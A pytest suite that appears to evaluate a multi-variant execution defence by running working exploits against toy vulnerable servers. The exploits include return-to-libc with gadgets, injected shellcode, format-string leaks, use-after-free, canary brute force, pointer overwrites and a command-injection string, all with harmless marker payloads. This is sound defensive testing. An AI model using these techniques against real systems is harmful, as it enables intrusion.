"""Exploits with a fixed payload against toy servers (tests/attacks/*.c): each succeeds natively.

Under mvx the attacker takes the addresses from one variant, as one who has a leak would.
`test_attack_is_stopped`: the run ends as a divergence before the first byte of the effect.
`test_expected_miss`: what does the same in every variant is not seen, and said to be so
(SECURITY.md). The numbers T1 to T8 are those of the attacks that evaluations of such systems use.
"""

from __future__ import annotations

import contextlib
import re
import struct
import sys
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import known_gaps
import pytest

FOLDER = Path(__file__).parent / "attacks"
sys.path.insert(0, str(FOLDER))

from attacker import Victim, gadget, offset, size, words  # noqa: E402

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

DIVERGENCE = 121
FAILS_IN_THE_LEADER = {"T1-code-in-mapped-memory"}
"""With a follower's address the leader's own call fails (EFAULT): nothing happens in any variant.
"""
END_LIMIT_S = 20
PAGE = 4096
UNPROTECTED = ("-fno-stack-protector",)
OWNED = b"owned\n"


class Attack(NamedTuple):
    """An exploit: the server's source, how it is compiled, what the attacker does, how he knows
    that it worked.
    """

    source: str
    flags: tuple[str, ...]
    exploit: Callable[[Victim], None]
    worked: Callable[[Victim], bool]
    arguments: tuple[str, ...] = ()


def made_marker(victim: Victim) -> bool:
    return victim.await_marker(5) == OWNED


# T1


def chunk(body: bytes, last_request: bytes = b"") -> bytes:
    return last_request.ljust(128, b"\0") + struct.pack("<H", len(body)) + body


def return_to_function(victim: Victim) -> None:
    victim.talk(chunk(words(victim.symbol("win")) * 24))


def return_to_library(victim: Victim) -> None:
    maps = Path(f"/proc/{victim.number}/maps").read_text()
    found = re.search(r"\S+/libc\.so\.6", maps)
    assert found
    library, base = Path(found[0]), victim.base(found[0])
    pop_rdi = base + gadget(library, b"\x5f\xc3")
    system = base + offset(library, "system")
    slide = [pop_rdi + 1] * 18  # returns; `system` is entered with the stack as after a call
    command = b"echo owned >marker"
    victim.talk(chunk(words(*slide, pop_rdi, victim.symbol("last_request"), system), command))


def inject_code_on_stack(victim: Victim) -> None:
    """Jump into the bytes that lie on the stack; where they lie, the attacker learns while the
    victim reads them.
    """
    marks, before = b"WHERE-IT-LIES-IN-MEMORY!", 24 * 8
    code = make_marker()
    with victim.connect() as wire:
        wire.sendall(chunk(b"\0" * (before + len(code)))[:130] + marks)
        place = victim.find_on_stack(marks)
        jumps = words(*[place + before] * (before // 8))
        wire.sendall(jumps[len(marks) :] + code)
        victim.drain(wire)


def make_marker() -> bytes:
    """Return code that makes the marker and exits: creat, write, exit_group."""
    path, text = b"marker\0", OWNED
    code = bytearray()

    def load(register: bytes, position: int) -> None:
        """Load the address of the data at `position` behind the code: lea register, [rip + …]."""
        code.extend(register + struct.pack("<i", 49 + position - (len(code) + 7)))

    load(b"\x48\x8d\x3d", 0)  # rdi = path
    code.extend(
        b"\xbe\xb6\x01\x00\x00" + b"\xb8\x55\x00\x00\x00" + b"\x0f\x05"
    )  # creat(path, 0666)
    code.extend(b"\x89\xc7")
    load(b"\x48\x8d\x35", len(path))
    code.extend(b"\xba\x06\x00\x00\x00" + b"\xb8\x01\x00\x00\x00" + b"\x0f\x05")  # write
    code.extend(b"\x31\xff" + b"\xb8\xe7\x00\x00\x00" + b"\x0f\x05")  # exit_group(0)
    code.extend(b"\x90" * (49 - len(code)))
    assert len(code) == 49
    return bytes(code) + path + text


# T3, T4, T5: leaks


def over_read(victim: Victim) -> None:
    victim.talk(struct.pack("<HH", 4, 512) + b"ping")


def leaked_secret(victim: Victim) -> bool:
    return b"TOP-SECRET-KEY" in victim.received


def ask(victim: Victim) -> None:
    victim.talk(b"?")


def leaked_code_address(victim: Victim) -> bool:
    return words(victim.symbol("win")) in victim.received


def format_pointers(victim: Victim) -> None:
    words_on_stack = range(139, 148)
    victim.talk(b"".join(b"%%%d$p." % number for number in words_on_stack).ljust(63))


def printed_code_address(victim: Victim) -> bool:
    base = victim.base(victim.program.name)
    return any(
        base <= int(word, 16) < base + (1 << 16) for word in re.findall(rb"0x\w+", victim.received)
    )


# T6


def use_after_free(victim: Victim) -> None:
    victim.talk(b"ocn" + words(victim.symbol("win")).ljust(64, b"\0") + b"g")


# T7


def brute_force(victim: Victim) -> None:
    """Read the stack byte by byte: a wrong guess kills a child, and the next has the same canary
    and addresses.
    """
    known = bytearray(b"A" * 64)

    def survives(body: bytes) -> bool:
        return victim.talk(struct.pack("<H", len(body)) + body) == b"ok\n"

    first, length = offset(victim.program, "serve"), size(victim.program, "serve")
    while len(known) < 64 + 16 * 8:
        for guess in range(256):
            if not victim.is_running:
                return
            if survives(bytes([*known, guess])):
                known.append(guess)
                break
        else:
            return
        address = int.from_bytes(known[-8:], "little")
        if len(known) % 8 == 0 and 0x5500_0000_0000 <= address < 0x5700_0000_0000:
            inside = (address - first) % PAGE
            if inside < length:
                base = address - first - inside
                body = bytes(known[:-8]) + words(base + offset(victim.program, "win"))
                victim.talk(struct.pack("<H", len(body)) + body)
                return


# Absolute addresses of mapped memory


def write_to(address: int, content: bytes) -> bytes:
    return words(address, len(content)) + content


def replace_generated_code(victim: Victim) -> None:
    pages = [page for page in victim.mappings("rwxp") if victim.memory(page, 2) == b"\xc3\0"]
    victim.talk(write_to(pages[0], make_marker()))


def set_mapped_flag(victim: Victim) -> None:
    page = struct.unpack("<Q", victim.memory(victim.symbol("account"), 8))[0]
    victim.talk(write_to(page, b"\1"))


# T2, T8


def low_bytes(victim: Victim) -> None:
    low = (victim.symbol("never_called") & 0xFFFF).to_bytes(2, "little")
    victim.talk(b"a" + struct.pack("<H", 34) + b"A" * 32 + low)


def low_half(victim: Victim) -> None:
    low = (victim.symbol("never_called") & 0xFFFFFFFF).to_bytes(4, "little")
    victim.talk(b"a" + struct.pack("<H", 36) + b"A" * 32 + low)


def set_flag(victim: Victim) -> None:
    victim.talk(b"r" + struct.pack("<H", 36) + b"A" * 32 + b"\1\0\0\0")


def inject_command(victim: Victim) -> None:
    victim.talk(b"';echo owned >marker #".ljust(63, b"\0"))


ATTACKS = {
    "T1-return-to-function": Attack("stack_overflow", UNPROTECTED, return_to_function, made_marker),
    "T1-return-to-library": Attack("stack_overflow", UNPROTECTED, return_to_library, made_marker),
    "T1-code-on-the-stack": Attack(
        "stack_overflow", (*UNPROTECTED, "-zexecstack"), inject_code_on_stack, made_marker
    ),
    "T1-code-in-mapped-memory": Attack("mapped_memory", (), replace_generated_code, made_marker),
    "T3-over-read": Attack("over_read", (), over_read, leaked_secret),
    "T4-uninitialised-memory": Attack("uninitialised", (), ask, leaked_code_address),
    "T5-format-string": Attack(
        "format_string", ("-Wno-format-security",), format_pointers, printed_code_address
    ),
    "T6-use-after-free": Attack("use_after_free", (), use_after_free, made_marker),
    "T7-brute-force": Attack(
        "forking_server", ("-fstack-protector-all",), brute_force, made_marker
    ),
}

MISSES = {
    "T2-low-bytes-of-a-pointer": Attack("pointer_overflow", (), low_bytes, made_marker),
    "T1-program-at-fixed-addresses": Attack(
        "stack_overflow", (*UNPROTECTED, "-no-pie"), return_to_function, made_marker
    ),
    "T2-low-half-of-a-pointer": Attack("pointer_overflow", (), low_half, made_marker),
    "T3-over-read-without-code-pointers": Attack(
        "over_read", (), over_read, leaked_secret, ("without-code-pointers",)
    ),
    "T8-flag-beside-a-buffer": Attack("pointer_overflow", (), set_flag, made_marker),
    "T8-flag-in-mapped-memory": Attack("mapped_memory", (), set_mapped_flag, made_marker),
    "T8-command-injection": Attack("command_injection", (), inject_command, made_marker),
}
"""The same bytes do the same in every variant: no divergence, and the effect happens, once."""


@contextlib.contextmanager
def attacked(
    attack: Attack, command: list[str], program: Path, place: Path, variant: int = 0
) -> Iterator[Victim]:
    place.mkdir()
    victim = Victim([*command, str(program), *attack.arguments], program, place, variant)
    try:
        attack.exploit(victim)
        yield victim
    finally:
        victim.kill()


def assert_works_natively(attack: Attack, program: Path, place: Path) -> None:
    with attacked(attack, [], program, place) as victim:
        assert attack.worked(victim), "the exploit does not work natively"


@pytest.mark.parametrize(("policy", "variant"), [("effects", 0), ("effects", 1), ("strict", 0)])
@pytest.mark.parametrize("name", ATTACKS)
def test_attack_is_stopped(
    name: str,
    policy: str,
    variant: int,
    compiled: Callable[..., Path],
    mvx_command: list[str],
    work_place: Path,
    record_property: Callable[[str, object], None],
    request: pytest.FixtureRequest,
) -> None:
    if cause := known_gaps.ATTACKS.get(name):
        request.applymarker(pytest.mark.xfail(reason=cause, raises=AssertionError))
    attack = ATTACKS[name]
    program = compiled(FOLDER / f"{attack.source}.c", *attack.flags)
    if (policy, variant) == ("effects", 0):
        assert_works_natively(attack, program, work_place / "natively")
    command = [*mvx_command, "run", "-n", "2", "--policy", policy, "--"]
    with attacked(attack, command, program, work_place / "under-mvx", variant) as victim:
        lives_on = variant and name in FAILS_IN_THE_LEADER
        status = victim.ended(1 if lives_on else END_LIMIT_S)
        record_property("attempts", victim.attempts)
        assert victim.marker == b""
        if lives_on:
            return
        if attack.worked is not made_marker:
            assert victim.received == b"", "something of the leak left the machine"
    assert status == DIVERGENCE, victim.errors


@pytest.mark.parametrize("name", MISSES)
def test_expected_miss(
    name: str, compiled: Callable[..., Path], mvx_command: list[str], work_place: Path
) -> None:
    attack = MISSES[name]
    program = compiled(FOLDER / f"{attack.source}.c", *attack.flags)
    assert_works_natively(attack, program, work_place / "natively")
    command = [*mvx_command, "run", "-n", "2", "--"]
    with attacked(attack, command, program, work_place / "under-mvx") as victim:
        assert attack.worked(victim), "no longer missed: move it to ATTACKS"
        assert victim.ended(0.5) in {None, 0}
